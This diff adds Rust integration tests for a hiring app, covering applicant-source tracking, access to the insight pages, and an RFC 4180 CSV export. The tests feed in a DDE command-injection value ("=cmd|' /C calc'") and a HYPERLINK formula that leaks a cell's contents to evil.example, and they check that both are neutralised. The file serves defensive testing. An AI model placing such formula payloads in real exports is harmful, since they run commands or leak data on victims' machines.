@@ -1,0 +1,462 @@
+//! Issue 10, items 4 to 6: where candidates come from, the insight pages
+//! and who may see them, and the CSV export.
+
+use crate::helpers::{csrf_from, spawn_app, Backend, Browser, TestApp};
+use crate::on_every_backend;
+use crate::pipeline::{candidate_in_review, interviewer, set_panel, user_id};
+
+on_every_backend!(
+    a_job_links_source_survives_the_apply_flow,
+    insight_shows_the_funnel_sources_and_questions,
+    insight_is_for_the_owner_and_the_jobs_panel,
+    a_job_without_applications_says_no_data_yet,
+    the_csv_export_is_rfc4180_and_neutralises_formulas,
+    only_owners_export,
+    calibration_pairs_the_screen_with_the_interviewers,
+);
+
+/// Applies through the form as a browser would: the form page first (with
+/// the query the link carried), then its fields, hidden ones included.
+async fn apply_from(b: &Browser, slug: &str, query: &str, name: &str, email: &str) -> u16 {
+    let page = b.get_text(&format!("/jobs/{slug}/apply{query}")).await;
+    let token = csrf_from(&page).expect("the form has a CSRF token");
+    let mut form = reqwest::multipart::Form::new()
+        .text("csrf_token", token)
+        .text("name", name.to_string())
+        .text("email", email.to_string())
+        .text("languages", "en")
+        .text("fluencies", "fluent")
+        .text("location", "Lisbon, Portugal")
+        .text("cover_letter", "I love helping people.")
+        .text("consent", "yes");
+    if let Some(source) = hidden_source(&page) {
+        form = form.text("source", source);
+    }
+    b.client
+        .post(b.url(&format!("/jobs/{slug}/apply")))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap()
+        .status()
+        .as_u16()
+}
+
+fn hidden_source(page: &str) -> Option<String> {
+    let at = page.find("name=\"source\" value=\"")? + "name=\"source\" value=\"".len();
+    page[at..].split('"').next().map(str::to_string)
+}
+
+async fn source_of(app: &TestApp, job_id: &str, email: &str) -> String {
+    let (job_id, email) = (job_id.to_string(), email.to_string());
+    app.db
+        .read(move |c| rapport::db::applications::find_by_job_email(c, &job_id, &email))
+        .await
+        .unwrap()
+        .expect("the application is stored")
+        .source
+}
+
+async fn a_job_links_source_survives_the_apply_flow(backend: Backend) {
+    let app = spawn_app(backend).await;
+    app.sign_up_owner().await;
+    let (job_id, slug) = app.publish_job(&[]).await;
+    let reader = app.new_browser();
+
+    // The public page carries the source to its Apply link, and a page
+    // with someone's source is never stored by a shared cache.
+    let res = reader
+        .get(&format!("/jobs/{slug}?utm_source=News%20Letter"))
+        .await;
+    assert_eq!(
+        res.headers()
+            .get("cache-control")
+            .map(|v| v.to_str().unwrap()),
+        Some("no-store")
+    );
+    let page = res.text().await.unwrap();
+    assert!(
+        page.contains(&format!("/jobs/{slug}/apply?ref=news-letter")),
+        "{page}"
+    );
+    let res = reader.get(&format!("/jobs/{slug}")).await;
+    assert!(
+        res.headers().get("cache-control").is_none(),
+        "the plain page stays cacheable"
+    );
+    let page = res.text().await.unwrap();
+    assert!(!page.contains("?ref="));
+
+    // The form, never cached, carries it in a hidden field filled per request.
+    let form = reader
+        .get_text(&format!("/jobs/{slug}/apply?ref=LinkedIn"))
+        .await;
+    assert_eq!(hidden_source(&form).as_deref(), Some("linkedin"));
+    let plain = reader.get_text(&format!("/jobs/{slug}/apply")).await;
+    assert_eq!(hidden_source(&plain), None);
+
+    assert_eq!(
+        apply_from(
+            &reader,
+            &slug,
+            "?ref=LinkedIn",
+            "Bo Brown",
+            "bo@example.com"
+        )
+        .await,
+        303
+    );
+    assert_eq!(source_of(&app, &job_id, "bo@example.com").await, "linkedin");
+    let other = app.new_browser();
+    assert_eq!(
+        apply_from(&other, &slug, "", "Cy Cole", "cy@example.com").await,
+        303
+    );
+    assert_eq!(source_of(&app, &job_id, "cy@example.com").await, "");
+
+    // Whatever the link says, what is kept is a short plain word.
+    let token = {
+        let page = other.get_text(&format!("/jobs/{slug}/apply")).await;
+        csrf_from(&page).unwrap()
+    };
+    let form = reqwest::multipart::Form::new()
+        .text("csrf_token", token)
+        .text("name", "Di Dee")
+        .text("email", "di@example.com")
+        .text("languages", "en")
+        .text("fluencies", "fluent")
+        .text("consent", "yes")
+        .text(
+            "source",
+            format!("=cmd|' /C calc'!A0 <b>{}", "x".repeat(200)),
+        );
+    let res = other
+        .client
+        .post(other.url(&format!("/jobs/{slug}/apply")))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status().as_u16(), 303);
+    let kept = source_of(&app, &job_id, "di@example.com").await;
+    assert!(kept.starts_with("cmd-c-calc-a0-b-x"), "{kept}");
+    assert!(kept.len() <= 40 && kept.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'));
+}
+
+async fn insight_shows_the_funnel_sources_and_questions(backend: Backend) {
+    let app = spawn_app(backend).await;
+    // Ana: applied without a source, screened (strong answers), in review.
+    let (job_id, ana_id) = candidate_in_review(&app, "unanimous").await;
+    let slug = app
+        .db
+        .read({
+            let j = job_id.clone();
+            move |c| rapport::db::jobs::find(c, &j)
+        })
+        .await
+        .unwrap()
+        .unwrap()
+        .slug;
+    let first = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
+    assert!(first.contains("(1 application)"), "{first}");
+    let bo = app.new_browser();
+    assert_eq!(
+        apply_from(&bo, &slug, "?ref=linkedin", "Bo Brown", "bo@example.com").await,
+        303
+    );
+
+    // The stored figures follow the change at once. Handlebars escapes "=" in attributes; browsers read it back.
+    let page = app
+        .get_text(&format!("/admin/jobs/{job_id}/insight"))
+        .await
+        .replace("&#x3D;", "=");
+    assert!(page.contains("<h2 id=\"funnel-h\">Funnel</h2>"), "{page}");
+    assert!(page.contains("<svg"), "charts are inline SVG");
+    assert!(!page.contains("No data yet</h2>"));
+    // Two applications; one reached screen review.
+    assert!(page.contains("Figures as of"));
+    assert!(page.contains("(2 applications)"), "{page}");
+    let funnel_row = |label: &str| {
+        let at = page
+            .find(&format!(">{label}</a></th>"))
+            .unwrap_or_else(|| panic!("{label} row"));
+        page[at..].split("</tr>").next().unwrap().to_string()
+    };
+    assert!(funnel_row("Applied").contains("<td class=\"text-right\">2</td>"));
+    assert!(funnel_row("Screen review").contains("<td class=\"text-right\">1</td>"));
+    assert!(funnel_row("Hired").contains("<td class=\"text-right\">0</td>"));
+    // Sources, each linking to its candidates.
+    assert!(page.contains(&format!(
+        "/admin/jobs/{job_id}/applications?source=linkedin"
+    )));
+    assert!(page.contains(&format!("/admin/jobs/{job_id}/applications?source=-")));
+    // The questions Ana answered, with their mean score.
+    assert!(page.contains("Q1 · tier"), "{page}");
+    assert!(page.contains("Screen versus interviews"));
+    assert!(page.contains("No data yet: no hired or rejected candidate"));
+
+    // The links lead to the candidates behind each figure.
+    let list = app
+        .get_text(&format!(
+            "/admin/jobs/{job_id}/applications?source=linkedin"
+        ))
+        .await;
+    assert!(
+        list.contains("Bo Brown") && !list.contains("Ana Lima"),
+        "{list}"
+    );
+    let list = app
+        .get_text(&format!("/admin/jobs/{job_id}/applications?source=-"))
+        .await;
+    assert!(list.contains("Ana Lima") && !list.contains("Bo Brown"));
+    let list = app
+        .get_text(&format!(
+            "/admin/jobs/{job_id}/applications?reached=screen_review"
+        ))
+        .await;
+    assert!(list.contains(&format!("/admin/applications/{ana_id}")));
+    assert!(!list.contains("Bo Brown"));
+
+    // Across jobs: the same job, listed with its counts.
+    let across = app.get_text("/admin/insight").await;
+    assert!(across.contains(&format!("/admin/jobs/{job_id}/insight")));
+    assert!(across.contains("Funnel"));
+
+    // The figures themselves, computed from the database.
+    let figures = app
+        .db
+        .read({
+            let j = job_id.clone();
+            move |c| rapport::db::insight::compute(c, &rapport::db::insight::Scope::Job(j))
+        })
+        .await
+        .unwrap();
+    assert_eq!(figures.applications, 2);
+    let reached: Vec<usize> = figures.funnel.iter().map(|s| s.reached).collect();
+    assert_eq!(reached[0], 2);
+    assert_eq!(reached[2], 1, "only Ana reached screen review");
+    assert!(!figures.items.is_empty() && figures.items.iter().all(|i| i.answers == 1));
+    assert!(figures.items.iter().all(|i| !i.prompt.is_empty()));
+    assert!(!figures.tiers.is_empty());
+}
+
+async fn insight_is_for_the_owner_and_the_jobs_panel(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let (job_id, _) = candidate_in_review(&app, "unanimous").await;
+    let ivy = interviewer(&app, "ivy@example.com").await;
+    let path = format!("/admin/jobs/{job_id}/insight");
+
+    // Not on the panel: refused, and nothing of the job across jobs.
+    assert_eq!(ivy.get(&path).await.status().as_u16(), 403);
+    let across = ivy.get_text("/admin/insight").await;
+    assert!(across.contains("No data yet"), "{across}");
+    assert!(!across.contains(&job_id));
+
+    // On the panel: the job's figures, without links into the owner's list.
+    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
+    let ivy_id = user_id(&app, "ivy@example.com").await;
+    set_panel(&app, &job_id, &[&fran, &ivy_id], &[]).await;
+    let res = ivy.get(&path).await;
+    assert_eq!(res.status().as_u16(), 200);
+    assert_eq!(
+        res.headers()
+            .get("cache-control")
+            .map(|v| v.to_str().unwrap()),
+        Some("no-store")
+    );
+    let page = res.text().await.unwrap();
+    assert!(page.contains("Funnel"));
+    assert!(
+        !page.contains("/applications?"),
+        "interviewers have no applications list"
+    );
+    assert!(!page.contains("applications.csv"));
+    let across = ivy.get_text("/admin/insight").await;
+    assert!(
+        across.contains(&format!("/admin/jobs/{job_id}/insight")),
+        "{across}"
+    );
+
+    // No session: sign in first. Unknown job: not found.
+    let res = app.anonymous().get(app.url(&path)).send().await.unwrap();
+    assert_eq!(res.status().as_u16(), 303);
+    assert!(crate::helpers::location(&res).starts_with("/login"));
+    assert_eq!(
+        app.get("/admin/jobs/nope/insight").await.status().as_u16(),
+        404
+    );
+}
+
+async fn a_job_without_applications_says_no_data_yet(backend: Backend) {
+    let app = spawn_app(backend).await;
+    app.sign_up_owner().await;
+    let (job_id, _) = app.publish_job(&[]).await;
+    let page = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
+    assert!(page.contains("No data yet"), "{page}");
+    assert!(!page.contains("<svg"), "no empty charts");
+    let across = app.get_text("/admin/insight").await;
+    assert!(across.contains("No data yet"));
+}
+
+async fn the_csv_export_is_rfc4180_and_neutralises_formulas(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let (job_id, ana_id) = candidate_in_review(&app, "unanimous").await;
+    let slug = app
+        .db
+        .read({
+            let j = job_id.clone();
+            move |c| rapport::db::jobs::find(c, &j)
+        })
+        .await
+        .unwrap()
+        .unwrap()
+        .slug;
+    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click, please\")";
+    let mallory = app.new_browser();
+    assert_eq!(
+        apply_from(&mallory, &slug, "?ref=board", evil, "mallory@example.com").await,
+        303
+    );
+
+    let res = app
+        .get(&format!("/admin/jobs/{job_id}/applications.csv"))
+        .await;
+    assert_eq!(res.status().as_u16(), 200);
+    let headers = res.headers().clone();
+    assert!(headers["content-type"]
+        .to_str()
+        .unwrap()
+        .starts_with("text/csv; charset=utf-8"));
+    assert!(headers["content-disposition"]
+        .to_str()
+        .unwrap()
+        .starts_with("attachment"));
+    assert_eq!(headers["cache-control"], "no-store");
+    let body = res.text().await.unwrap();
+    assert!(body.starts_with("application_id,name,email,stage,source,"));
+    assert!(
+        body.contains("\r\n") && !body.replace("\r\n", "").contains('\n'),
+        "CRLF line ends"
+    );
+
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let col = |name: &str| {
+        header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("{name}"))
+    };
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), 2);
+    assert!(rows.iter().all(|r| r.len() == header.len()));
+    let ana = rows
+        .iter()
+        .find(|r| &r[col("application_id")] == ana_id.as_str())
+        .unwrap();
+    assert_eq!(&ana[col("name")], "Ana Lima");
+    assert_eq!(&ana[col("stage")], "screen_review");
+    assert!(!ana[col("entered_screen_review")].is_empty());
+    assert!(ana[col("entered_screen_review")].ends_with('Z'));
+    assert_eq!(&ana[col("screen_passed")], "yes");
+    let empathy: f64 = ana[col("screen_empathy_0_2")].parse().unwrap();
+    assert!((0.0..=2.0).contains(&empathy));
+    assert!(ana[col("screen_score_percent")].parse::<u32>().unwrap() > 50);
+    let m = rows
+        .iter()
+        .find(|r| &r[col("email")] == "mallory@example.com")
+        .unwrap();
+    // The formula is kept as text, whole: a spreadsheet shows it, never runs it.
+    assert_eq!(&m[col("name")], format!("'{evil}").as_str());
+    assert_eq!(&m[col("source")], "board");
+    assert_eq!(&m[col("screen_passed")], "");
+    assert!(body
+        .contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click, please\"\")\""));
+}
+
+async fn only_owners_export(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let (job_id, _) = candidate_in_review(&app, "unanimous").await;
+    let path = format!("/admin/jobs/{job_id}/applications.csv");
+    // Even on the job's panel, an interviewer cannot take every candidate's details away.
+    let ivy = interviewer(&app, "ivy@example.com").await;
+    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
+    let ivy_id = user_id(&app, "ivy@example.com").await;
+    set_panel(&app, &job_id, &[&fran, &ivy_id], &[]).await;
+    let res = ivy.get(&path).await;
+    assert_eq!(res.status().as_u16(), 403);
+    assert!(!res.text().await.unwrap().contains("ana@example.com"));
+    let res = app.anonymous().get(app.url(&path)).send().await.unwrap();
+    assert_eq!(res.status().as_u16(), 303);
+    assert_eq!(
+        app.get("/admin/jobs/nope/applications.csv")
+            .await
+            .status()
+            .as_u16(),
+        404
+    );
+}
+
+async fn calibration_pairs_the_screen_with_the_interviewers(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let (job_id, ana_id) = candidate_in_review(&app, "unanimous").await;
+    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
+    // Ana is hired (the way there is tested in pipeline.rs) and was rated
+    // by Fran twice: only the latest scorecard counts.
+    let (a, f) = (ana_id.clone(), fran.clone());
+    app.db
+        .write(move |c| {
+            use rapport::domain::application::Stage;
+            let now = rapport::db::now();
+            rapport::db::applications::move_stage(
+                c,
+                &a,
+                Stage::ScreenReview,
+                Stage::Hired,
+                "test",
+                "",
+                now,
+            )?;
+            for (empathy, curiosity) in [(1, 1), (4, 3)] {
+                let r = rapport::db::scorecards::Ratings {
+                    empathy,
+                    curiosity,
+                    humility: 3,
+                    dedication: 3,
+                    technical: 3,
+                    recommendation: 4,
+                };
+                rapport::db::scorecards::submit(c, &a, None, &f, &r, "{}", "", now)?;
+            }
+            Ok(())
+        })
+        .await
+        .unwrap();
+    let figures = app
+        .db
+        .read({
+            let j = job_id.clone();
+            move |c| rapport::db::insight::compute(c, &rapport::db::insight::Scope::Job(j))
+        })
+        .await
+        .unwrap();
+    let points = &figures.calibration.points;
+    assert_eq!(points.len(), 1);
+    assert!(points[0].hired);
+    assert_eq!(points[0].interview_empathy, 4.0);
+    assert_eq!(points[0].interview_curiosity, 3.0);
+    assert!((0.0..=2.0).contains(&points[0].auto_empathy));
+    assert_eq!(figures.calibration.empathy.value, None);
+    assert_eq!(figures.calibration.empathy.needed, Some(10));
+    let page = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
+    assert!(
+        page.contains("Not enough decided candidates yet: 1 of the 10 needed."),
+        "{page}"
+    );
+    assert_eq!(
+        page.matches("<circle").count(),
+        2,
+        "one dot per scatter plot"
+    );
+    assert!(figures.time_to_hire.is_some());
+}
